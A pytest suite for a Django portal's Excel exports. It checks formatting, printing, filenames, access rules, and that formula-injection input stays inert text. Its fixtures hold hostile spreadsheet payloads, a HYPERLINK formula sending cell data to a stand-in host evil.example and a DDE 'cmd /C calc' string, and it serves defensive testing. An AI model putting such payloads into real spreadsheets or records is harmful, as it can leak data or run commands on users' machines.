"""Every .xlsx the portal writes, opened as a user opens it: formatted, printable, named, and
with hostile text kept as inert text (issue 14 "Exports", issue 12 finding 6)."""

from __future__ import annotations

import datetime as dt
import io
import re
import shutil
import subprocess
from decimal import Decimal
from pathlib import Path
from urllib.parse import unquote

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from assessments.models import Exam, ExamScore
from assessments.supervision import draw_sample
from attendance.models import StudySession
from common.xlsx import text_width
from tests.conftest import refreshed
from tests.reports.test_dashboard import NOW, year_2025  # noqa: F401 (a fixture)

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
HOSTILE_TOPIC = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_FINDING = "+1-1 发现问题"
ENGLISH_OUTCOMES = {"met", "not_met", "n/a", "on_track", "at_risk"}


@pytest.fixture
def hostile(cast, year_2025):  # noqa: F811
    """The 2025 cast with a member named like a formula, a topic and a finding likewise, an
    exam with scores and a supervision check."""
    member = cast.member_a_member
    member.name = HOSTILE_NAME
    member.save()
    StudySession.objects.filter(organization=cast.branch_a).update(topic=HOSTILE_TOPIC)
    exam = Exam.objects.create(
        organization=cast.branch_a, title="第一季度理论考试", date=NOW.date()
    )
    ExamScore.objects.create(exam=exam, member=member, score=Decimal("88.5"))
    ExamScore.objects.create(exam=exam, member=cast.secretary_a_member, score=Decimal("92"))
    with time_machine.travel(dt.datetime(2025, 3, 20, 2, tzinfo=dt.UTC), tick=False):
        sample = draw_sample(
            organization=refreshed(cast.root),
            month=dt.date(2025, 3, 1),
            size=2,
            weighted=False,
            by=cast.reviewer,
        )
    check = sample.checks.get(branch=cast.branch_a)
    check.findings, check.status, check.checked_on = HOSTILE_FINDING, "已检查", dt.date(2025, 3, 10)
    check.rectify_by = dt.date(2025, 4, 30)
    check.save()
    return cast


# (who, route name, kwargs, query, ASCII name, which hostile text the workbook must hold)
EXPORTS = [
    ("secretary_a", "attendance:ledger_export", {"code": "JG-01-01"}, {"year": 2025},
     "ledger-JG-01-01-2025.xlsx", [HOSTILE_NAME, HOSTILE_TOPIC]),
    ("secretary_a", "reports:attendance_register", {"code": "JG-01-01"}, {"year": 2025},
     "register-JG-01-01-2025.xlsx", [HOSTILE_NAME]),
    ("reviewer", "reports:dashboard_export", {"table": "heatmap"}, {"org": "JG", "year": 2025},
     "heatmap-JG-2025.xlsx", []),
    ("reviewer", "reports:dashboard_export", {"table": "branches"}, {"org": "JG", "year": 2025},
     "branches-JG-2025.xlsx", []),
    ("reviewer", "reports:dashboard_export", {"table": "at_risk"}, {"org": "JG", "year": 2025},
     "at-risk-JG-2025.xlsx", [HOSTILE_NAME]),
    ("reviewer", "reports:dashboard_export", {"table": "months"}, {"org": "JG", "year": 2025},
     "participation-JG-2025.xlsx", []),
    ("reviewer", "reports:org_verdicts_xlsx", {"code": "JG-01-01"}, {"year": 2025},
     "verdicts-JG-01-01-2025.xlsx", [HOSTILE_NAME]),
    ("reviewer", "reports:overview_xlsx", {"code": "JG"}, {"year": 2025},
     "overview-JG-2025.xlsx", []),
    ("reviewer", "reports:member_verdicts_xlsx", {"member_no": "A002"}, {"year": 2025},
     "member-verdicts-A002-2025.xlsx", [HOSTILE_NAME, HOSTILE_TOPIC]),
    ("reviewer", "reports:supervision_report_xlsx", {"code": "JG"}, {"start": "2025-03"},
     "supervision-JG-2025-03.xlsx", [HOSTILE_FINDING]),
    ("reviewer", "reports:summary_xlsx", {"code": "JG-01-01"}, {"year": 2025},
     "summary-JG-01-01-2025.xlsx", [HOSTILE_NAME, HOSTILE_TOPIC]),
    ("admin", "reports:member_list_xlsx", {}, {"org": "JG-01-01"},
     "members-JG-01-01-2026-01-20.xlsx", [HOSTILE_NAME]),
    ("reviewer", "reports:selection_xlsx", {"code": "JG"}, {"year": 2025},
     "selection-JG-2025.xlsx", [HOSTILE_NAME]),
    ("reviewer", "reports:audit_xlsx", {"code": "JG"}, {},
     "audit-JG-2026-01-20.xlsx", [HOSTILE_NAME]),
    ("secretary_a", "reports:exams_xlsx", {"code": "JG-01-01"}, {},
     "exams-JG-01-01-2026-01-20.xlsx", [HOSTILE_NAME]),
]  # fmt: skip
IDS = [f"{name}-{kwargs.get('table', '')}" for _, name, kwargs, *_ in EXPORTS]


def download(cast, who, name, kwargs, query):
    response = cast.client(who).get(reverse(name, kwargs=kwargs), query)
    assert response.status_code == 200, response.content[:300]
    return response


def header_row(ws) -> int:
    """The header is the row above the frozen pane."""
    assert ws.freeze_panes, f"{ws.title}: no frozen header"
    return int(re.sub(r"\D", "", ws.freeze_panes)) - 1


@time_machine.travel(NOW, tick=False)
@pytest.mark.parametrize(
    ("who", "name", "kwargs", "query", "ascii_name", "texts"), EXPORTS, ids=IDS
)
def test_every_export_is_formatted_printable_named_and_inert(
    hostile, who, name, kwargs, query, ascii_name, texts
):
    response = download(hostile, who, name, kwargs, query)
    disposition = response["Content-Disposition"]
    assert f'filename="{ascii_name}"' in disposition
    chinese = unquote(disposition.split("filename*=UTF-8''")[1])
    assert chinese.endswith(".xlsx") and re.search(r"[\u4e00-\u9fff]", chinese)
    assert response["Cache-Control"] == "private, no-store"
    wb = load_workbook(io.BytesIO(response.content))
    found: set[str] = set()
    for ws in wb.worksheets:
        top = header_row(ws)
        headers = [c for c in ws[top] if c.value is not None]
        assert headers, f"{ws.title}: empty header row"
        for cell in headers:
            assert cell.font.b, f"{ws.title}!{cell.coordinate} header not bold"
            width = ws.column_dimensions[cell.column_letter].width
            # Wide enough for the header's longest line (CJK double), or wrapped.
            line = max(text_width(part) for part in str(cell.value).split("\n"))
            wrapped = cell.alignment.wrap_text and (ws.row_dimensions[top].height or 0) >= 30
            assert width >= min(line, 20) or (wrapped and width >= 6), (
                f"{ws.title}!{cell.column_letter}: width {width}"
            )
        assert ws.print_title_rows.replace("$", "") == f"{top}:{top}"
        assert ws.page_setup.orientation == "landscape"
        assert ws.page_setup.fitToWidth == 1 and ws.sheet_properties.pageSetUpPr.fitToPage
        assert ws.oddHeader.center.text and "&P" in ws.oddFooter.center.text
        if top == 2:  # a title row above the header names the organization
            title = ws["A1"].value
            assert ws["A1"].data_type == "s" and ws["A1"].font.b
            assert title[0] not in "=+-@", title
            found |= {t for t in texts if t in title}
            assert title and ("（JG" in title or "A002" in title or "党员名单" in title)
        header_text = {c.column: str(c.value) for c in headers}
        for row in ws.iter_rows(min_row=top + 1):
            for cell in row:
                value = cell.value
                if value is None:
                    continue
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(value, str):
                    assert value not in ENGLISH_OUTCOMES, f"{ws.title}!{cell.coordinate}"
                    assert value[0] not in "=+-@\t\r", f"{ws.title}!{cell.coordinate}: {value!r}"
                    found |= {t for t in texts if t in value}
                elif isinstance(value, dt.datetime):
                    assert cell.is_date and "yy" in cell.number_format
                    letter = get_column_letter(cell.column)
                    assert ws.column_dimensions[letter].width >= 11, "a date would print ###"
                elif isinstance(value, float) and "率" in header_text.get(cell.column, ""):
                    assert cell.number_format == "0.0%", f"{ws.title}!{cell.coordinate}"
    assert found == set(texts), f"hostile text missing from {name}: {set(texts) - found}"


@time_machine.travel(NOW, tick=False)
def test_a_hostile_name_is_a_string_cell_that_does_not_start_with_a_formula(hostile):
    response = download(
        hostile, "secretary_a", "reports:attendance_register", {"code": "JG-01-01"}, {"year": 2025}
    )
    ws = load_workbook(io.BytesIO(response.content)).active
    [cell] = [c for row in ws.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)]
    assert cell.data_type == "s" and not cell.value.startswith("=")
    assert cell.value.strip() == HOSTILE_NAME  # shown as typed, with a space in front


@time_machine.travel(NOW, tick=False)
def test_rates_are_percentages_and_outcomes_chinese_in_the_branch_table(hostile):
    response = download(
        hostile,
        "reviewer",
        "reports:dashboard_export",
        {"table": "branches"},
        {"org": "JG", "year": 2025},
    )
    ws = load_workbook(io.BytesIO(response.content))["支部"]
    rows = {r[0].value: r for r in ws.iter_rows(min_row=3)}
    headers = [c.value for c in ws[2]]
    rate = rows["JG-01-01"][headers.index("平均参与率")]
    # Branch A: four sessions of six with one of its two members absent.
    assert rate.number_format == "0.0%" and rate.value == pytest.approx(4 / 6 * 0.5 + 2 / 6, 1e-3)
    outcome = rows["JG-01-01"][headers.index("FJ-B1")].value
    assert outcome == "未达标"


@time_machine.travel(NOW, tick=False)
def test_the_ledger_export_has_no_title_row_and_re_imports_a_hostile_name_unchanged(hostile):
    from branches.ledger import import_ledger
    from branches.models import Member

    content = download(
        hostile, "secretary_a", "attendance:ledger_export", {"code": "JG-01-01"}, {"year": 2025}
    ).content
    wb = load_workbook(io.BytesIO(content))
    assert [c.value for c in wb["党员"][1]][:2] == ["编号", "姓名"]
    Member.objects.filter(member_no="A002").update(name="改过的名字")
    import_ledger(io.BytesIO(content), user=hostile.secretary_a)
    assert Member.objects.get(member_no="A002").name == HOSTILE_NAME
    assert set(StudySession.objects.filter(organization=hostile.branch_a).values_list("topic", flat=True)) == {HOSTILE_TOPIC}  # fmt: skip


# The table pages' export routes, each walked through the cast below (tests/test_routes.py).
ROUTES = {
    "reports:member_list_xlsx",
    "reports:selection_xlsx",
    "reports:audit_xlsx",
    "reports:exams_xlsx",
}


@pytest.mark.parametrize(
    ("route", "kwargs", "expected"),
    [
        (
            "reports:member_list_xlsx",
            {},
            {"admin": 200, "reviewer": 200, "secretary_a": 200, "member_a": 404},
        ),
        (
            "reports:selection_xlsx",
            {"code": "JG"},
            {"admin": 200, "reviewer": 200, "secretary_a": 404, "member_a": 404, "other_reviewer": 404},
        ),
        (
            "reports:audit_xlsx",
            {"code": "JG-01-01"},
            {"admin": 200, "reviewer": 200, "secretary_a": 404, "secretary_b": 404, "member_a": 404},
        ),
        (
            "reports:exams_xlsx",
            {"code": "JG-01-01"},
            {"admin": 200, "reviewer": 200, "secretary_a": 200, "secretary_b": 404, "member_a": 404},
        ),
        (
            "reports:attendance_register",
            {"code": "JG-01-01"},
            {"reviewer": 200, "secretary_a": 200, "secretary_b": 404, "other_reviewer": 404},
        ),
    ],
)  # fmt: skip
def test_export_routes_answer_whom_their_pages_answer(cast, route, kwargs, expected):
    url = reverse(route, kwargs=kwargs)
    for who, status in expected.items():
        assert cast.client(who).get(url, {"year": 2025}).status_code == status, who
    response = cast.client(None).get(url)
    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")


@time_machine.travel(NOW, tick=False)
def test_the_table_pages_link_their_export(hostile):
    pages = [
        ("admin", "branches:member_list", {}, "reports:member_list_xlsx", {}),
        ("reviewer", "assessments:selection", {"code": "JG"}, "reports:selection_xlsx", {"code": "JG"}),
        ("reviewer", "assessments:audit", {"code": "JG"}, "reports:audit_xlsx", {"code": "JG"}),
        ("secretary_a", "assessments:exam_list", {"code": "JG-01-01"}, "reports:exams_xlsx", {"code": "JG-01-01"}),
        ("secretary_a", "branches:org_detail", {"code": "JG-01-01"}, "reports:attendance_register", {"code": "JG-01-01"}),
    ]  # fmt: skip
    for who, page, kwargs, export, export_kwargs in pages:
        html = hostile.client(who).get(reverse(page, kwargs=kwargs)).content.decode()
        assert reverse(export, kwargs=export_kwargs) in html, page
    member_page = hostile.client("member_a").get(
        reverse("assessments:exam_list", kwargs={"code": "JG-01-01"})
    )
    assert (
        reverse("reports:exams_xlsx", kwargs={"code": "JG-01-01"})
        not in member_page.content.decode()
    )


_QUERIES: dict[int, int] = {}


@pytest.mark.parametrize("members", [5, 60])
@time_machine.travel(NOW, tick=False)
def test_the_member_list_export_queries_do_not_grow(cast, members, django_assert_max_num_queries):
    from tests.factories import make_member

    for i in range(members):
        make_member(refreshed(cast.branch_b), name=f"党员{i}", member_no=f"X{i:03d}")
    with django_assert_max_num_queries(30) as captured:
        response = download(cast, "admin", "reports:member_list_xlsx", {}, {})
    ws = load_workbook(io.BytesIO(response.content))["党员"]
    assert ws.max_row == 2 + 5 + members  # title, header, the cast's members and the new ones
    _QUERIES[members] = len(captured.captured_queries)
    if len(_QUERIES) == 2:
        assert _QUERIES[5] == _QUERIES[60]


# Printed by LibreOffice: what a secretary gets on paper.

SOFFICE = shutil.which("soffice")


def print_to_pdf(workbooks: dict[str, bytes], tmp_path: Path) -> dict[str, tuple[str, int]]:
    """Per workbook, the PDF text as LibreOffice prints it and its page count (one soffice
    run for all of them: it starts slowly)."""
    sources = []
    for stem, content in workbooks.items():
        sources.append(tmp_path / f"{stem}.xlsx")
        sources[-1].write_bytes(content)
    subprocess.run(
        [SOFFICE, f"-env:UserInstallation=file://{tmp_path}/lo", "--headless",
         "--convert-to", "pdf", "--outdir", str(tmp_path), *map(str, sources)],
        check=True, capture_output=True, timeout=300,
    )  # fmt: skip
    printed = {}
    for stem in workbooks:
        pdf = tmp_path / f"{stem}.pdf"
        text = subprocess.run(
            ["pdftotext", "-layout", str(pdf), "-"], check=True, capture_output=True, text=True
        ).stdout
        info = subprocess.run(["pdfinfo", str(pdf)], check=True, capture_output=True, text=True)
        printed[stem] = (text, int(re.search(r"Pages:\s+(\d+)", info.stdout).group(1)))
    return printed


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
@time_machine.travel(NOW, tick=False)
def test_exports_print_without_hashes_and_the_register_of_a_branch_on_few_pages(hostile, tmp_path):
    # A branch of 25 members and a year of sessions: the register as a secretary prints it.
    from tests.assessments.test_definitions import held, monthly_days
    from tests.factories import make_member

    for i in range(23):
        make_member(refreshed(hostile.branch_a), name=f"党员{i:02d}", member_no=f"A1{i:02d}")
    for day in monthly_days(12):
        held(hostile.branch_a, day.replace(day=15), {})
    workbooks = {
        ascii_name.removesuffix(".xlsx"): download(hostile, who, name, kwargs, query).content
        for who, name, kwargs, query, ascii_name, _texts in EXPORTS
    }
    printed = print_to_pdf(workbooks, tmp_path)
    for stem, (text, _pages) in printed.items():
        assert "###" not in text, stem
        assert "第 1 页" in text, stem  # the footer
    text, pages = printed["register-JG-01-01-2025"]
    assert pages <= 3, pages
    assert "甲支部（JG-01-01）" in text and "出席" in text


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
@time_machine.travel(NOW, tick=False)
def test_a_spreadsheet_that_opens_and_saves_the_exports_keeps_hostile_text_inert(hostile, tmp_path):
    """LibreOffice reads each cell as a user's spreadsheet does and saves it again: no
    formula appears, and the re-saved ledger imports with the name as it was."""
    from branches.ledger import import_ledger
    from branches.models import Member

    exports = {
        "ledger": ("secretary_a", "attendance:ledger_export", {"code": "JG-01-01"}, {"year": 2025}),
        "register": ("secretary_a", "reports:attendance_register", {"code": "JG-01-01"}, {"year": 2025}),
        "supervision": ("reviewer", "reports:supervision_report_xlsx", {"code": "JG"}, {"start": "2025-03"}),
    }  # fmt: skip
    sources = []
    for stem, args in exports.items():
        sources.append(tmp_path / f"{stem}.xlsx")
        sources[-1].write_bytes(download(hostile, *args).content)
    out = tmp_path / "saved"
    subprocess.run(
        [SOFFICE, f"-env:UserInstallation=file://{tmp_path}/lo", "--headless",
         "--convert-to", "xlsx", "--outdir", str(out), *map(str, sources)],
        check=True, capture_output=True, timeout=300,
    )  # fmt: skip
    for stem in exports:
        wb = load_workbook(out / f"{stem}.xlsx")
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value]
        assert not [c.coordinate for c in cells if c.data_type == "f"], stem
        assert any(HOSTILE_NAME in str(c.value) or HOSTILE_FINDING in str(c.value) for c in cells)
    Member.objects.filter(member_no="A002").update(name="改过的名字")
    with (out / "ledger.xlsx").open("rb") as saved:
        import_ledger(saved, user=hostile.secretary_a)
    assert Member.objects.get(member_no="A002").name == HOSTILE_NAME
